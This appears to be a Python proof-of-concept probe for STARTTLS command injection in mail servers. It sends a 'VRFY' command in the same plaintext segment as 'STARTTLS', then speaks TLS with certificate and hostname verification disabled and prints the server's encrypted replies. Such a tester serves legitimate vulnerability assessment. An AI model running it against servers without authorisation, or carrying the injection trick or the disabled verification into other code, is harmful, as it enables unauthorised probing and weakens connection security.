"""Sends commands in the clear behind STARTTLS, then speaks TLS: HOST PORT. Prints every reply of the encrypted part."""
import socket
import ssl
import sys

plain = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=60)
plain.recv(4096)
plain.sendall(b"EHLO client.outside.example\r\n")
plain.recv(4096)
# In one segment, so that the server has both before it answers the first.
plain.sendall(b"STARTTLS\r\nVRFY injected@example.com\r\n")
answer = b""
while not answer.endswith(b"\r\n"):
    answer += plain.recv(1) or sys.exit("hung up after: %r" % answer)
if not answer.startswith(b"220"):
    sys.exit("STARTTLS: %r" % answer)
trusting = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
trusting.check_hostname = False
trusting.verify_mode = ssl.CERT_NONE
secret = trusting.wrap_socket(plain)
secret.sendall(b"EHLO client.outside.example\r\n")
secret.settimeout(2)
try:
    while True:
        piece = secret.recv(4096)
        if not piece:
            break
        sys.stdout.write(piece.decode("latin-1"))
except socket.timeout:
    pass
